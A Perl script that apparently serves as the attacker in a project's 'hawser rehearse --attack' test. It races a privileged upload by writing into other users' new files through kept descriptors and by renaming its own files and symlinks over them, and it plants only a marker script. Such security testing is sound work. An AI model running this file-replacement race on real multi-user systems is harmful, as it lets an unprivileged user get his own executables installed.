# The attacker of `hawser rehearse --attack`: an unprivileged user in a twin, who tries to get bytes of his own
# installed. Needs nothing but Debian's perl-base.
#
#   perl -e PROGRAM FOLDER… -- DESTINATION…
#
# FOLDERs are those that uploads pass through. He looks at them, and at the folders of the DESTINATIONs, as fast as
# he can; writes into every file of others, keeps its descriptor and writes again later; and renames files and links
# of his own over it. Ends with its standard input, then prints `LOOKS TRIES WINS`. A try is a system call that would
# change what others put there; a win is a destination that holds his bytes.
use strict;
use warnings;
use Fcntl qw(:mode SEEK_SET O_RDONLY O_WRONLY O_NOFOLLOW O_NONBLOCK);
use IO::Select;

my $separator    = 0;
my @folders      = ();
my @destinations = ();
for my $argument (@ARGV) {
    if    ($argument eq '--') { $separator = 1 }
    elsif ($separator)        { push @destinations, $argument }
    else                      { push @folders, $argument }
}
for my $destination (@destinations) {
    my ($folder) = $destination =~ m{\A(.*)/[^/]*\z}s;
    push @folders, $folder eq '' ? '/' : $folder if defined $folder;
}
my %once = ();
@folders = grep { !$once{$_}++ } @folders;

# An executable, so that a win would be a real one.
my $payload = "#!/bin/sh\n# these bytes are the racer's\n";
# Names a user could guess; what is his own he leaves alone.
my $bait       = ".racer-$$";
my $kept_limit = 128;
# What a link of his leads to: outside of the folders, in his own.
my $trap     = (getpwuid $>)[7] . '/racer-payload';
my $has_trap = store($trap);

my ($looks, $tries, $wins) = (0, 0, 0);
my %kept = ();
my %won  = ();

my $input = IO::Select->new(\*STDIN);
until ($input->can_read(0)) {
    ++$looks;
    attack_folder($_) for @folders;
    write_through($_) for values %kept;
    look_at($_) for @destinations;
}
unlink "$_/$bait" for @folders;
print "$looks $tries $wins\n";

sub attack_folder {
    my ($folder) = @_;
    opendir my $entries, $folder or return;
    my @names = grep { $_ ne '.' && $_ ne '..' && $_ ne $bait } readdir $entries;
    closedir $entries;
    for my $name (@names) {
        my $path = "$folder/$name";
        my @facts = lstat $path;
        # Programs of the system that have always been there are not what is being uploaded.
        next if !@facts || !S_ISREG($facts[2]) || $facts[4] == $> || $facts[9] < $^T - 60;
        attack_file($folder, $path, $facts[1]);
    }
}

sub attack_file {
    my ($folder, $path, $inode) = @_;
    if (!$kept{$inode}) {
        ++$tries;
        if (sysopen my $file, $path, O_WRONLY | O_NOFOLLOW | O_NONBLOCK) {
            delete $kept{(keys %kept)[0]} if keys %kept >= $kept_limit;
            $kept{$inode} = $file;
            write_through($file);
        }
    }
    # Over it with a file of his own, then with a link: neither needs a right to the file, only to the folder.
    ++$tries;
    rename "$folder/$bait", $path if store("$folder/$bait");
    return unless $has_trap;
    ++$tries;
    rename "$folder/$bait", $path if symlink $trap, "$folder/$bait";
}

sub store {
    my ($path) = @_;
    open my $file, '>', $path or return 0;
    print $file $payload;
    close $file;
    return chmod 0755, $path;
}

sub write_through {
    my ($file) = @_;
    ++$tries;
    sysseek $file, 0, SEEK_SET;
    syswrite $file, $payload;
}

sub look_at {
    my ($path) = @_;
    sysopen my $file, $path, O_RDONLY | O_NONBLOCK or return;
    sysread $file, my $head, length $payload;
    return if ($head // '') ne $payload;
    my $inode = (stat $file)[1];
    ++$wins if !$won{"$path $inode"}++;
}
